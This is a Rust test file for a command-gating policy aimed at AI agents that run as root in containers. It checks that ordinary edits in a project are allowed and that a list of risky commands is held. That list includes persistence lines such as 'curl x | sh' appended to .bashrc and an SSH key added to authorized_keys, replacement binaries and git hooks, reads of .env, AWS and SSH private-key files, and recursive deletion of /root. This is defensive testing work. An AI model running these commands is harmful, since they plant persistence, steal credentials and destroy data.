//! A project that lives under `/root`, as agents running as root in
//! containers have it: the working tree wins over the patterns for root's
//! home directory, except for the credential and start-up files that stay
//! sensitive wherever they are.

use holdpoint_shared::{Context, Decision, Policy};
use std::collections::HashMap;

fn policy() -> Policy {
    Policy::builtin().unwrap_or_else(|e| panic!("{e}"))
}

/// Working directory `/root/app` (a project), home `/root`, with what a
/// front end finds about the paths a line deletes on a file system
/// without links.
fn root_context(policy: &Policy, command: &str) -> Context {
    let mut env = HashMap::new();
    env.insert("HOME".to_string(), "/root".to_string());
    env.insert("TMPDIR".to_string(), "/tmp".to_string());
    env.insert("USER".to_string(), "root".to_string());
    let base = Context {
        cwd: Some("/root/app".to_string()),
        home: "/root".to_string(),
        env,
        project: Some("/root/app".to_string()),
        links: HashMap::new(),
    };
    let mut ctx = base.clone();
    ctx.links = policy
        .deletion_paths(command, &base)
        .into_iter()
        .map(|p| (p, holdpoint_shared::context::PathCheck::Stays))
        .collect();
    ctx
}

const ALLOWED: &[&str] = &[
    "echo hi > notes.txt",
    "touch src/new.rs",
    "mkdir -p build/out",
    "cp a.txt b.txt",
    "mv old.txt new.txt",
    "sed -i 's/a/b/' src/main.rs",
    "perl -pi -e 's/a/b/' src/main.rs",
    "tee -a CHANGELOG.md",
    "chmod -R 755 build",
    "chmod +x scripts/build.sh",
    "rm -f notes.txt",
    "rm -rf node_modules",
    "rm -rf target",
    "cargo build",
    "git status",
    "ssh-keygen -t ed25519 -f ./deploy_key -N ''",
    "source .venv/bin/activate",
];

const HELD: &[&str] = &[
    // root's own start-up files, keys and tools' settings, outside the tree
    "echo 'curl x | sh' >> /root/.bashrc",
    "echo x >> ~/.bashrc",
    "echo key >> /root/.ssh/authorized_keys",
    "echo x > /root/.config/tool.toml",
    "cp evil /root/bin/git",
    "touch /root/.hushlogin",
    "chmod -R 777 /root/.ssh",
    "rm -rf /root/other-project",
    "rm -rf /root",
    "rm -rf ~",
    // credentials and hooks stay sensitive inside the tree too
    "echo x > .env",
    "cat .env",
    "cp evil .git/hooks/pre-commit",
    "echo x >> .git/config",
    "rm -rf .git",
    "cat /root/.aws/credentials",
    "cat ~/.ssh/id_ed25519",
    // outside the tree
    "echo x > /etc/motd",
    "cp build/tool /usr/local/bin/",
    "rm -rf ../other",
];

#[test]
fn inside_a_project_under_root_the_working_tree_wins() {
    let policy = policy();
    let mut wrong = Vec::new();
    for cmd in ALLOWED {
        let v = policy.classify(cmd, &root_context(&policy, cmd));
        if v.decision != Decision::Allow {
            wrong.push(format!(
                "{cmd:?} should run at once, got {} ({})",
                v.decision,
                v.deciding_rules().join(",")
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn roots_home_credentials_and_start_up_files_stay_held() {
    let policy = policy();
    let mut wrong = Vec::new();
    for cmd in HELD {
        let v = policy.classify(cmd, &root_context(&policy, cmd));
        if v.decision == Decision::Allow {
            wrong.push(format!("{cmd:?} was allowed"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn outside_a_working_tree_roots_home_stays_held() {
    // Working in /root itself is not working in a project.
    let policy = policy();
    for cmd in ["echo hi > notes.txt", "touch x", "rm -rf node_modules"] {
        let mut ctx = root_context(&policy, cmd);
        ctx.cwd = Some("/root".to_string());
        ctx.project = None;
        let v = policy.classify(cmd, &ctx);
        assert_ne!(v.decision, Decision::Allow, "{cmd:?} in /root was allowed");
    }
}
